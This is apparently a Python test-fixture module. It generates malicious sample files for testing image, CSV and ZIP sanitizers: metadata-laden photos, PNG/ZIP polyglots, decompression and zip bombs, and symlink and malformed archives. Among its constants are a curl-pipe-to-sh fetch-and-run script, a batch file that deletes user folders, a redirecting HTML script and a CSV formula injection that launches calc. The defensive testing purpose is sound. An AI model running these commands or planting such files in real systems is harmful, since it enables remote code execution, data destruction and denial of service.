"""Threat corpus for the image, text/CSV and ZIP sanitizers, generated (nothing is downloaded).

Each generator builds the smallest file that carries one threat of SANITIZATION-FACTS.md; the
secrets they hide are byte strings the tests look for in the output.
"""

from __future__ import annotations

import functools
import io
import stat
import struct
import zipfile
import zlib

from PIL import Image, ImageCms
from PIL.PngImagePlugin import PngInfo

SECRET = b"SECRET-7f3a"  # hidden in metadata, trailers and appended archives: must never come out
GPS_IFD = 0x8825


def photo(width: int, height: int) -> Image.Image:
    """Something like a photo: gradients and noise (JPEG cannot compress it to nothing)."""
    size = (width, height)
    return Image.merge("RGB", (Image.linear_gradient("L").resize(size), Image.radial_gradient("L").resize(size),
                               Image.effect_noise(size, 40)))


def encode(image: Image.Image, fmt: str, **params) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **params)
    return out.getvalue()


def jpeg_with_gps() -> bytes:
    """A phone photo: EXIF (camera, orientation 6 = turned right) with GPS, XMP, ICC, a comment."""
    exif = Image.Exif()
    exif[0x010F] = "SECRET-7f3a camera"  # Make
    exif[0x0112] = 6  # Orientation
    gps = exif.get_ifd(GPS_IFD)
    gps.update({1: "N", 2: (35.0, 41.0, 22.2), 3: "E", 4: (139.0, 41.0, 30.1)})
    return encode(photo(64, 32), "JPEG", exif=exif, xmp=b"<x:xmpmeta>" + SECRET + b"</x:xmpmeta>",
                  icc_profile=ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes(),
                  comment=SECRET)


def png_with_text() -> bytes:
    info = PngInfo()
    info.add_text("Comment", SECRET.decode())
    info.add_itxt("Description", "説明 " + SECRET.decode())
    return encode(photo(32, 32), "PNG", pnginfo=info)


def small_zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def png_with_zip() -> tuple[bytes, bytes]:
    """A polyglot: a valid PNG that is also a valid ZIP (the archive appended after IEND)."""
    appended = small_zip({"payload.exe": b"MZ" + SECRET})
    return encode(photo(32, 32), "PNG") + appended, appended


def jpeg_with_trailer() -> tuple[bytes, bytes]:
    trailer = b"<script>" + SECRET + b"</script>"
    return encode(photo(32, 32), "JPEG") + trailer, trailer


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header(width: int, height: int) -> bytes:
    """A PNG that claims ``width`` x ``height`` (a decompression bomb) with almost no pixel data."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", zlib.compress(b"\0" * 1000))
            + _chunk(b"IEND", b""))


def animated_gif(frames: int = 3) -> bytes:
    images = [Image.new("RGB", (16, 16), (80 * i % 256, 0, 255 - 80 * i % 256)) for i in range(frames)]
    return encode(images[0], "GIF", save_all=True, append_images=images[1:], duration=100, loop=0)


def cp932_csv() -> bytes:
    return "氏名,金額,メモ\r\n山田太郎,=cmd|'/C calc'!A0,-5\r\n佐藤花子,1000,+81-3-1234-5678\r\n".encode("cp932")


EXECUTABLE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
              + b"This program cannot be run in DOS mode.")
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://203.0.113.1/x | sh\n"
HTML = b"<html><body><script>document.location='http://203.0.113.1/'</script></body></html>"
BATCH = b"@echo off\r\ndel /q C:\\Users\\*\r\n"


@functools.cache
def zip_of_zeros(size: int = 1024 ** 3) -> bytes:
    """One entry of ``size`` zero bytes, deflated while written (1 GB of zeros is about 1 MB)."""
    out = io.BytesIO()
    chunk = bytes(1024 * 1024)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("zeros.bin", "w") as member:
        for _ in range(size // len(chunk)):
            member.write(chunk)
    return out.getvalue()


def zip_many(count: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for i in range(count):
            archive.writestr(f"f{i}.txt", b"x")
    return out.getvalue()


def nested_zip(depth: int, text: bytes) -> bytes:
    """``depth`` ZIPs inside each other, a text file in the innermost."""
    data = small_zip({"innermost.txt": text})
    for level in range(depth - 1):
        data = small_zip({f"level{depth - 1 - level}.zip": data})
    return data


def zip_with_link(target: str = "/etc/passwd") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("passwd.txt")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, target)
        archive.writestr("readme.txt", b"ordinary file")
    return out.getvalue()


def _patch_headers(data: bytes, local_offset: int, central_offset: int, value: bytes) -> bytes:
    """Overwrite the same field of the first local header and the first central directory entry."""
    raw = bytearray(data)
    local = raw.find(b"PK\x03\x04")
    central = raw.find(b"PK\x01\x02")
    raw[local + local_offset:local + local_offset + len(value)] = value
    raw[central + central_offset:central + central_offset + len(value)] = value
    return bytes(raw)


def zip_lying_size(real: int = 50 * 1024 * 1024, claimed: int = 1000) -> bytes:
    """One member whose headers claim ``claimed`` bytes while its data inflates to ``real``."""
    data = small_zip({"small.txt": bytes(real)})
    return _patch_headers(data, 22, 24, struct.pack("<I", claimed))


def zip_encrypted_flag() -> bytes:
    """A member flagged as encrypted (bit 0): what a password ZIP looks like to the unpacker."""
    data = small_zip({"secret.txt": SECRET})
    flags = struct.unpack("<H", data[6:8])[0] | 0x1
    return _patch_headers(data, 6, 8, struct.pack("<H", flags))


def zip_cp932_names(names: dict[str, bytes]) -> bytes:
    """Names written in CP932 without the UTF-8 flag, as Japanese Windows' Explorer does."""
    placeholders = {str(i).rjust(len(name.encode("cp932")), "Q"): name for i, name in enumerate(names)}
    data = small_zip({placeholder: names[name] for placeholder, name in placeholders.items()})
    for placeholder, name in placeholders.items():
        data = data.replace(placeholder.encode(), name.encode("cp932"))
    return data
